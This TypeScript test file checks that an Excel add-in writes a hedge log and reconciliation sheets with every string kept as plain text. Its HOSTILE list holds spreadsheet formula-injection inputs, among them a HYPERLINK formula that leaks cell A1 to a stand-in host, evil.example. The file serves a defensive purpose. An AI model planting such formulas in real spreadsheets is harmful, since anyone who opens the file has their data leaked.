// The one safe cell rule: a table of hostile strings written to the log and the recon sheet, through office-addin-mock and in the memory workbook, stays text exactly as written.
import { MemoryWorkbook, excelStores } from "../../src/excel/memory-workbook";
import { OfficeWorkbook } from "../../src/excel/office-workbook";
import { MemorySheetWriter } from "../../src/excel/recon-sheet";
import { formatRuns } from "../../src/excel/safe-cells";
import { LOG_COLUMNS, LOG_SHEET_NAME } from "../../src/trading/log/hedge-log";
import type { SheetContent } from "../../src/trading/sheet-content";
import { ExcelModel } from "./excel-model";
import { journalled } from "../support/builders";

/** What a careless or hostile client_reference (or any text the service returns) may hold. */
const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\r\n@SUM(1)",
  "00123",
  "0012.50",
  "1,234",
  "12%",
  "-5",
  "1e5",
  "2026-11",
  "2026-11-30",
  "11/30/2026",
  "30-Nov",
  "1-2",
  "TRUE",
  "false",
];

const refColumn = LOG_COLUMNS.findIndex((c) => c.field === "clientReference");
const messageColumn = LOG_COLUMNS.findIndex((c) => c.field === "message");

describe("the Excel model the tests rely on", () => {
  it("turns every hostile string into something else when written without the rule (so the tests below can fail)", () => {
    for (const text of HOSTILE) {
      const stored = excelStores(text, "General");
      expect({ text, changed: stored.value !== text || stored.formula !== undefined }).toEqual({ text, changed: true });
      expect(excelStores(text, "@")).toEqual({ value: text });
    }
  });
});

describe("formatRuns", () => {
  it("gives a column its format once, and text to the runs of strings in a column of another kind", () => {
    const values = [
      [45_000.5, "a", 1],
      ["not a date", "b", 2],
      ["also not", "", 3],
      [45_001, "c", ""],
    ];
    expect(formatRuns(values, ["yyyy-mm-dd", "@", "0"])).toEqual([
      { row: 0, column: 0, rows: 4, columns: 1, format: "yyyy-mm-dd" },
      { row: 1, column: 0, rows: 2, columns: 1, format: "@" },
      { row: 0, column: 1, rows: 4, columns: 1, format: "@" },
      { row: 0, column: 2, rows: 4, columns: 1, format: "0" },
    ]);
    // A column left to the sheet (null): only its strings are made text.
    expect(formatRuns([[1], ["x"], [2]], [null])).toEqual([{ row: 1, column: 0, rows: 1, columns: 1, format: "@" }]);
  });
});

describe("every string the add-in writes stays text", () => {
  const hostileRecords = () =>
    HOSTILE.map((text, i) => journalled(`k${i}`, { clientReference: text, message: text, errorCode: text, hedgeId: text }));

  it("in the Hedge Log through Office.js (office-addin-mock), appended and updated", async () => {
    const model = new ExcelModel();
    const wb = new OfficeWorkbook(model.excel);
    await wb.appendLog(hostileRecords());
    await wb.updateLog(HOSTILE.map((text, i) => ({ idempotencyKey: `k${i}`, orderTxHash: text })));
    const sheet = model.host.sheet(LOG_SHEET_NAME);
    HOSTILE.forEach((text, i) => {
      for (const field of ["clientReference", "message", "errorCode", "hedgeId", "orderTxHash"] as const) {
        const cell = sheet.cell(
          i + 1,
          LOG_COLUMNS.findIndex((c) => c.field === field),
        );
        expect({ field, text, cell }).toEqual({ field, text, cell: { v: text, f: undefined, nf: "@" } });
      }
    });
    expect((await wb.readLog()).map((r) => r.clientReference)).toEqual(HOSTILE);
  });

  it("in the Hedge Log of the memory workbook", async () => {
    const wb = new MemoryWorkbook();
    await wb.appendLog(hostileRecords());
    const cells = wb.cells(LOG_SHEET_NAME);
    HOSTILE.forEach((text, i) => {
      expect(cells[i + 1][refColumn]).toBe(text);
      expect(cells[i + 1][messageColumn]).toBe(text);
      expect(wb.formulaAt(LOG_SHEET_NAME, i + 1, refColumn)).toBeUndefined();
    });
    expect((await wb.readLog()).map((r) => r.clientReference)).toEqual(HOSTILE);
  });

  it("on any sheet written by the memory recon writer, whatever format the content asked for", async () => {
    const workbook = new MemoryWorkbook();
    const content: SheetContent = {
      name: "Hedge Recon 2026-11",
      values: HOSTILE.map((text) => [text, 1]),
      formats: HOSTILE.map(() => ["General", "#,##0.00"]),
      columnWidths: [100, 80],
      boldRows: [],
      sections: [],
    };
    const written = await new MemorySheetWriter(workbook).writeSheet(content);
    HOSTILE.forEach((text, i) => {
      expect(workbook.cells(written.name)[i][0]).toBe(text);
      expect(workbook.formulaAt(written.name, i, 0)).toBeUndefined();
      expect(workbook.formatAt(written.name, i, 0)).toBe("@");
      expect(workbook.formatAt(written.name, i, 1)).toBe("#,##0.00");
    });
  });

  it("and the same strings written raw (no rule) would have been changed: the memory workbook shows it", () => {
    const workbook = new MemoryWorkbook({ sheets: { Raw: [] } });
    workbook.writeRaw(
      "Raw",
      0,
      0,
      HOSTILE.map((t) => [t]),
    );
    const changed = HOSTILE.filter((t, i) => workbook.cells("Raw")[i][0] !== t || workbook.formulaAt("Raw", i, 0) !== undefined);
    expect(changed).toEqual(HOSTILE);
  });
});
